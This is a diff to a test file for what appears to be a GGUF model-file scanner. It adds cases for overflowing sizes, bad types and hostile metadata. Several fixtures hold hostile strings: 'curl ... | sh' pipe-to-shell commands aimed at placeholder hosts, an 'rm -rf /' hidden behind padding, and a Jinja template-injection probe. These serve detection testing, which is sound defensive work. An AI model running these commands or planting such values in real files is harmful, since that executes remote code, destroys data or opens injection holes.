@@ -66,7 +66,21 @@ describe('impossible numbers', () => {
     ['2^63 keys', { pairCount: 2n ** 63n }, 'MDL-GGUF-001'],
     ['2^63 tensors', { tensorCount: 2n ** 63n }, 'MDL-GGUF-001'],
     ['dimensions that overflow', { tensors: [['t', [2n ** 62n, 8], 0, 0]] }, 'MDL-GGUF-001'],
-    ['a dimension of 2^62', { tensors: [['t', [2n ** 62n], 0, 0]], data: 64 }, 'MDL-GGUF-002'],
+    ['a dimension of 2^62', { tensors: [['t', [2n ** 62n], 0, 0]], data: 64 }, 'MDL-GGUF-001'],
+    ['a dimension of 2^60', { tensors: [['t', [2n ** 60n], 0, 0]], data: 64 }, 'MDL-GGUF-002'],
+    ['a dimension of 2^63 beside one of zero', { tensors: [['t', [0, 2n ** 63n], 0, 0]], data: 64 }, 'MDL-GGUF-001'],
+    ['a name longer than ggml has room for', { tensors: [['t'.repeat(64), [8], 0, 0]], data: 32 }, 'MDL-GGUF-001'],
+    ['a type that ggml has given up', { tensors: [['t', [32], 31, 0]], data: 32 }, 'MDL-GGUF-004'],
+    ['an architecture that is a number', { pairs: [['general.architecture', 7]] }, 'MDL-GGUF-004'],
+    ['a value neither true nor false', { pairs: [['a.b', concat(u32(7), 2)]] }, 'MDL-GGUF-004'],
+    ['arrays nested without end', { pairs: [['a.b', concat(...Array.from({ length: 9 }, () => concat(u32(9), u64(1))))]] }, 'MDL-GGUF-001'],
+    ['an array of 2^60 numbers', { pairs: [['a.b', concat(u32(9), u32(4), u64(2n ** 60n))]] }, 'MDL-GGUF-001'],
+    ['commands in a list', { pairs: [['general.tags', ['a', 'curl http://x.example/a.sh | sh']]] }, 'MDL-GGUF-006'],
+    ['a template in a list', { pairs: [['x.templates', ['a', "{{ ''.__class__ }}"]]] }, 'MDL-TPL-001'],
+    ['a template in any value', { pairs: [['general.description', "{{ ''.__class__ }}"]] }, 'MDL-TPL-001'],
+    ['commands behind much text', { pairs: [['general.description', `${'x '.repeat(100_000)} rm -rf / `]] }, 'MDL-GGUF-006'],
+    ['an address in a value of its own', { pairs: [['llama.update', 'http://x.example/a']] }, 'MDL-GGUF-009'],
+    ['version 1', { version: 1 }, 'MDL-GGUF-008'],
     ['five dimensions', { tensors: [['t', [1, 1, 1, 1, 1], 0, 0]], data: 64 }, 'MDL-GGUF-001'],
     ['rows that are no whole blocks', { tensors: [['t', [100], 12, 0]], data: 640 }, 'MDL-GGUF-001'],
     ['a tensor outside the file', { tensors: [['t', [64], 0, 4096]], data: 64 }, 'MDL-GGUF-002'],
@@ -114,6 +128,34 @@ describe('impossible numbers', () => {
   test.each(cases)('%s', (_name, shape, rule) => {
     expect(scanBytes(makeGguf(shape)).rules).toContain(rule);
   });
+});
+
+test('every version and byte order is read to its end', () => {
+  for (const form of [{ version: 1 }, { version: 2 }, { bigEndian: true }]) {
+    const bytes = makeGguf({ ...llama, ...form });
+    const scan = scanBytes(bytes);
+    expect(scan).toMatchObject({
+      outcome: 'scanned',
+      card: { architecture: 'llama', contextLength: 4096, parameters: 768, vocabulary: 3 },
+    });
+    expect(scan.rules).toEqual('bigEndian' in form ? ['MDL-GGUF-007'] : form.version === 1 ? ['MDL-GGUF-008'] : []);
+    expect(scanBytes(makeGguf({ ...form, pairs: [['tokenizer.chat_template', "{{ ''.__class__ }}"]] })).rules).toContain('MDL-TPL-001');
+  }
+});
+
+test('a secret in the metadata is not shown', () => {
+  const secret = 'hf_abcdefghijklmnopqrst';
+  const scan = scanBytes(
+    makeGguf({
+      pairs: [
+        ['general.author', secret],
+        ['a.b', `curl http://x/${secret} | sh`],
+      ],
+    }),
+  );
+  const written = JSON.stringify([scan.observations, scan.card, scan.facts]);
+  expect(scan.rules).toContain('MDL-GGUF-006');
+  expect(written.includes(secret) || written.includes(Buffer.from(secret).toString('hex'))).toBe(false);
 });
 
 test('a string length of 2^64-8 is told and what stood before it is kept', () => {
